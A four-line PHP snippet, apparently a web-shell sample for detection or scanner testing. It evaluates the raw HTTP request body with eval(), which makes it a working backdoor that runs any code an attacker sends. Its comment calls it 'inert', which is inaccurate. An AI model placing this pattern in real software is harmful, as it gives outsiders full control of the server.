<?php
// inert sample: the request body read through the pecl_http function, then evaluated
$b = http_get_request_body();
eval($b);
